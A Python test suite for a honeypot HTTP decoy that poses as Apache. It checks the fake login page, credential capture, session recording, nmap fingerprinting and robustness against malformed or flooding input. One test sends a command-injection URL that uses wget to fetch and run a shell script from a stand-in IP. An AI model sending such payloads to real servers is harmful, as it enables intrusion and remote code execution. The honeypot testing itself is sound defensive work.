# SPDX-License-Identifier: GPL-2.0-or-later
"""moat-decoyd's http decoy through a real stack (issue 11, moat-decoyd):
curl gets an "Administration" login page from what answers as Debian's
Apache 2.4.62, posts made-up credentials and sees "Invalid credentials";
the decoy.login event carries them, the decoy_sessions row and the
asciicast file are there with the request's bytes; an exploit URL is a
command and a download event; keep-alive follows Apache's rules; nmap -sV
names the port "Apache httpd 2.4.62 ((Debian))"; binary garbage, a 100 KB
header line, 10,000 header fields, a slowloris trickle and 1,000 pipelined
requests are answered as Apache would, recorded, and leave the daemon up
and inside its memory bound."""
import json
import os
import re
import shutil
import socket
import subprocess
import time

import pytest

from moatstack import wait_for

USER, PASSWORD = "admin", "N0t-the&real=one %!"
SERVER = b"Server: Apache/2.4.62 (Debian)\r\n"


@pytest.fixture(scope="module")
def dd(stack):
    if stack.env.get("DECOYD") != "running":
        pytest.skip("moat-decoyd is not built")
    for tool in ("curl", "nmap"):
        if shutil.which(tool) is None:
            pytest.skip("%s is not installed (ctl/bootstrap)" % tool)
    return stack


def port(st):
    words = dict(w.split(":", 1) for w in st.env["DECOY_PORTS"].split())
    return int(words["http"])


def url(st, path="/"):
    return "http://127.0.0.1:%d%s" % (port(st), path)


def rss_kb(pid):
    with open("/proc/%d/status" % pid) as f:
        for line in f:
            if line.startswith("VmRSS:"):
                return int(line.split()[1])
    return 0


def events(st, kind, key=None):
    evs = [dict(r, detail=json.loads(r["detail_json"])) for r in
           st.sql("SELECT * FROM events WHERE kind = ? ORDER BY id", (kind,))]
    return [e for e in evs if key is None or e["detail"].get("session") == key]


def row_of(st, key, timeout=15):
    """The decoy_sessions row of session key, once written."""
    def find():
        for r in st.sql("SELECT * FROM decoy_sessions WHERE personality = 'http' "
                        "ORDER BY id DESC LIMIT 200"):
            s = json.loads(r["summary"])
            if s.get("session") == key:
                return dict(r, s=s)
        return None
    return wait_for(find, timeout=timeout, what="the row of %s" % key)


def key_of(st, src_port):
    """The session key of the connection from 127.0.0.1:src_port."""
    def find():
        for e in reversed(events(st, "decoy.connect")):
            d = e["detail"]
            if d.get("personality") == "http" and d.get("src_port") == src_port:
                return d["session"]
        return None
    return wait_for(find, timeout=15, what="decoy.connect of port %d" % src_port)


def cast_bytes(path, kind):
    """The bytes of every event of kind ("i" or "o") of an asciicast file."""
    with open(path, "rb") as f:
        lines = f.read().splitlines()
    head = json.loads(lines[0])
    assert head["version"] == 2
    evs = [json.loads(l) for l in lines[1:]]
    assert all(b[0] >= a[0] for a, b in zip(evs, evs[1:]))
    return b"".join(e[2].encode("utf-8", "surrogateescape") for e in evs if e[1] == kind)


def connect(st):
    s = socket.create_connection(("127.0.0.1", port(st)), timeout=10)
    s.settimeout(10)
    return s


def drain(s, timeout=10):
    """Reads until the daemon closes (or timeout s); returns the bytes."""
    got = b""
    s.settimeout(timeout)
    try:
        while True:
            d = s.recv(65536)
            if not d:
                break
            got += d
    except (ConnectionResetError, socket.timeout):
        pass
    return got


def curl(*args):
    p = subprocess.run(["curl", "-sS", "-i", "-m", "20"] + list(args), capture_output=True,
                       timeout=30)
    assert p.returncode == 0, p.stderr
    head, _, body = p.stdout.partition(b"\r\n\r\n")
    return head + b"\r\n", body


# --------------------------------------------------------------- the page

def test_get_serves_the_login_page_as_apache(dd):
    head, body = curl(url(dd))
    assert head.startswith(b"HTTP/1.1 200 OK\r\nDate: ")
    # Apache's order of fields, a static file's validators, Debian's tokens.
    names = [l.split(b":")[0] for l in head.split(b"\r\n")[1:] if l]
    assert names == [b"Date", b"Server", b"Last-Modified", b"ETag", b"Accept-Ranges",
                     b"Content-Length", b"Vary", b"Content-Type"], names
    assert SERVER in head
    assert re.search(rb"\r\nDate: \w{3}, \d\d \w{3} \d{4} \d\d:\d\d:\d\d GMT\r\n", head)
    assert b"\r\nContent-Length: %d\r\n" % len(body) in head
    assert b"<title>web01 - Administration</title>" in body           # conf hostname
    assert b'<form method="post" action="/login"' in body
    assert b'name="username"' in body and b'name="password"' in body
    # HEAD: the same fields, no body.
    p = subprocess.run(["curl", "-sS", "-I", url(dd)], capture_output=True, timeout=30)
    assert p.stdout.startswith(b"HTTP/1.1 200 OK") and b"Content-Length: %d" % len(body) in p.stdout


def test_unknown_path_is_apaches_404(dd):
    head, body = curl(url(dd, "/phpmyadmin/index.php"))
    assert head.startswith(b"HTTP/1.1 404 Not Found\r\n") and SERVER in head
    assert b"Content-Type: text/html; charset=iso-8859-1\r\n" in head
    assert body == (b'<!DOCTYPE HTML PUBLIC "-//IETF//DTD HTML 2.0//EN">\n<html><head>\n'
                    b"<title>404 Not Found</title>\n</head><body>\n<h1>Not Found</h1>\n"
                    b"<p>The requested URL was not found on this server.</p>\n<hr>\n"
                    b"<address>Apache/2.4.62 (Debian) Server at 127.0.0.1 Port %d</address>\n"
                    b"</body></html>\n" % port(dd))


@pytest.fixture(scope="module")
def login(dd):
    """curl posts the form; returns (head, body, key, row)."""
    form = "username=%s&password=%s&lang=en" % tuple(
        "".join(c if c.isalnum() else "%%%02X" % ord(c) for c in v) for v in (USER, PASSWORD))
    p = subprocess.run(["curl", "-sS", "-i", "-m", "20", "-w", "\n%{local_port}", "-d", form,
                        url(dd, "/login")], capture_output=True, timeout=30)
    assert p.returncode == 0, p.stderr
    out, _, local = p.stdout.rpartition(b"\n")
    head, _, body = out.partition(b"\r\n\r\n")
    key = key_of(dd, int(local))
    return head, body, key, row_of(dd, key), form


def test_post_shows_invalid_credentials(login):
    head, body, _, _, _ = login
    assert head.startswith(b"HTTP/1.1 200 OK\r\n") and SERVER in head
    assert b"Invalid credentials" in body and b"<title>web01 - Administration</title>" in body


def test_login_event_carries_the_credentials(dd, login):
    _, _, key, _, _ = login
    ev = events(dd, "decoy.login", key)
    assert len(ev) == 1, ev
    assert ev[0]["detail"]["user"] == USER and ev[0]["detail"]["password"] == PASSWORD
    assert ev[0]["detail"]["personality"] == "http"
    assert ev[0]["src_ip"] == "127.0.0.1" and ev[0]["daemon"] == "decoyd"
    assert [e["detail"]["command"] for e in events(dd, "decoy.command", key)] == ["POST /login"]
    assert len(events(dd, "decoy.disconnect", key)) == 1


def test_session_row_and_asciicast(dd, login):
    _, body, key, row, form = login
    assert row["personality"] == "http" and row["port"] == port(dd)
    assert row["src_ip"] == "127.0.0.1" and row["ended"] >= row["started"] > 0
    assert row["s"]["logins"] == 1 and row["s"]["commands"] == 1 and row["s"]["user"] == USER
    assert row["transcript_path"].startswith(dd.env["DECOY_DIR"] + "/")
    sent = cast_bytes(row["transcript_path"], "i")
    assert sent.startswith(b"POST /login HTTP/1.1\r\n") and sent.endswith(form.encode())
    shown = cast_bytes(row["transcript_path"], "o")
    assert shown.startswith(b"HTTP/1.1 200 OK\r\n") and shown.endswith(body)


def test_exploit_url_is_a_command_and_a_download(dd):
    path = "/shell?cd+/tmp;wget+http://198.51.100.7/mips.sh;sh+mips.sh"
    p = subprocess.run(["curl", "-sS", "-o", "/dev/null", "-w", "%{http_code} %{local_port}",
                        url(dd, path)], capture_output=True, timeout=30)
    code, local = p.stdout.decode().split()
    assert code == "404"
    key = key_of(dd, int(local))
    row_of(dd, key)
    assert [e["detail"]["command"] for e in events(dd, "decoy.command", key)] == ["GET " + path]
    dl = events(dd, "decoy.download", key)
    assert [(e["detail"]["tool"], e["detail"]["url"]) for e in dl] == \
        [("wget", "http://198.51.100.7/mips.sh")]


def test_keep_alive_as_apache(dd):
    s = connect(dd)
    req = b"GET / HTTP/1.1\r\nHost: web01\r\nConnection: keep-alive\r\n\r\n"
    got = b""
    for n in range(3):
        s.sendall(req)
        while got.count(b"</html>\n") < n + 1:
            d = s.recv(65536)
            assert d, got[-300:]
            got += d
    assert b"Keep-Alive: timeout=5, max=100\r\nConnection: Keep-Alive\r\n" in got
    assert b"Keep-Alive: timeout=5, max=98\r\n" in got
    # Connection: close is honoured: answered, then closed.
    s.sendall(b"GET /x HTTP/1.1\r\nHost: web01\r\nConnection: close\r\n\r\n")
    last = drain(s)
    s.close()
    assert last.startswith(b"HTTP/1.1 404 Not Found\r\n") and b"Connection: close\r\n" in last
    # HTTP/1.0 without keep-alive: closed after one answer.
    s = connect(dd)
    s.sendall(b"GET / HTTP/1.0\r\n\r\n")
    one = drain(s)
    s.close()
    assert one.count(b"HTTP/1.1 200 OK") == 1 and b"Connection: close\r\n" in one


def test_nmap_names_it_apache(dd):
    p = subprocess.run(["nmap", "-sV", "-Pn", "-n", "--host-timeout", "90s", "-p",
                        str(port(dd)), "127.0.0.1"], capture_output=True, timeout=150)
    out = p.stdout.decode()
    line = [l for l in out.splitlines() if l.startswith("%d/tcp" % port(dd))]
    assert line, out
    assert " http " in line[0] and "Apache httpd 2.4.62 ((Debian))" in line[0], line[0]
    assert "honeypot" not in out.lower() and "unknown" not in line[0]


# --------------------------------------------------------------- bad input

def send_and_drain(st, data, chunk=65536):
    """Sends data (the daemon may close first), returns (answer, session row)."""
    s = connect(st)
    key = key_of(st, s.getsockname()[1])
    try:
        for i in range(0, len(data), chunk):
            s.sendall(data[i:i + chunk])
    except (BrokenPipeError, ConnectionResetError):
        pass
    got = drain(s)
    s.close()
    return got, row_of(st, key)


def test_binary_garbage(dd):
    pid = dd.pid("moat-decoyd")
    got, row = send_and_drain(dd, bytes(range(256)) * 40 + os.urandom(100000))
    assert got == b"" or got.startswith(b"HTTP/1.1 400 Bad Request\r\n"), got[:100]
    assert row["s"]["end"] == "malformed method" and row["s"]["bytes_in"] > 0
    assert cast_bytes(row["transcript_path"], "i").startswith(bytes(range(64)))
    assert dd.pid("moat-decoyd") == pid


def test_100k_header_line(dd):
    got, row = send_and_drain(dd, b"GET / HTTP/1.1\r\nHost: web01\r\nX-Long: " + b"A" * 100000 +
                              b"\r\n\r\n")
    assert got == b"" or got.startswith(b"HTTP/1.1 400 Bad Request\r\n"), got[:100]
    assert row["s"]["end"] == "header field too long"
    assert row["s"]["commands"] == 1                     # "GET /" recorded
    got, row = send_and_drain(dd, b"GET /" + b"A" * 100000 + b" HTTP/1.1\r\n\r\n")
    assert got == b"" or got.startswith(b"HTTP/1.1 414 Request-URI Too Long\r\n"), got[:100]
    assert row["s"]["end"] == "request line too long"


def test_10000_header_fields(dd):
    data = b"GET / HTTP/1.1\r\nHost: web01\r\n" + b"".join(
        b"X-F%d: v\r\n" % i for i in range(10000)) + b"\r\n"
    got, row = send_and_drain(dd, data)
    assert got == b"" or got.startswith(b"HTTP/1.1 400 Bad Request\r\n"), got[:100]
    assert row["s"]["end"] == "too many header fields"


def test_slowloris_is_cut_by_the_request_timeout(dd):
    s = connect(dd)
    key = key_of(dd, s.getsockname()[1])
    t0 = time.monotonic()
    s.sendall(b"GET / HTTP/1.1\r\nHost: web01\r\n")
    got = b""
    s.settimeout(0.5)
    try:
        for i in range(80):                              # a byte per 0.5 s, 40 s at most
            s.sendall(b"X-a: b\r\n"[i % 8:i % 8 + 1])
            try:
                d = s.recv(4096)
                if not d:
                    break
                got += d
            except socket.timeout:
                pass
    except (BrokenPipeError, ConnectionResetError):
        pass
    took = time.monotonic() - t0
    s.close()
    row = row_of(dd, key)
    assert got.startswith(b"HTTP/1.1 408 Request Timeout\r\n"), got[:100]
    assert row["s"]["end"] == "http: request timeout"
    assert 19 <= took < 30, took                         # http_request_timeout = 20 s


def test_1000_pipelined_requests(dd):
    pid = dd.pid("moat-decoyd")
    s = connect(dd)
    key = key_of(dd, s.getsockname()[1])
    data = b"".join(b"GET /p%d HTTP/1.1\r\nHost: web01\r\n\r\n" % i for i in range(1000))
    try:
        s.sendall(data)
    except (BrokenPipeError, ConnectionResetError):
        pass
    got = drain(s)
    s.close()
    # Apache's MaxKeepAliveRequests 100: 100 answers kept alive, the 101st
    # closes the connection; each answered in order.
    assert got.count(b"HTTP/1.1 404 Not Found\r\n") == 101, got.count(b"HTTP/1.1 ")
    assert b"Server at web01 Port 80" in got and got.count(b"Connection: close\r\n") == 1
    row = row_of(dd, key)
    assert row["s"]["commands"] == 101 and row["s"]["end"] == "http: connection closed"
    cmds = [e["detail"]["command"] for e in events(dd, "decoy.command", key)]
    assert cmds == ["GET /p%d" % i for i in range(101)]
    assert cast_bytes(row["transcript_path"], "o").count(b"HTTP/1.1 404") == 101
    assert dd.pid("moat-decoyd") == pid and rss_kb(pid) < 64 * 1024
    # Still serving.
    head, _ = curl(url(dd))
    assert head.startswith(b"HTTP/1.1 200 OK")
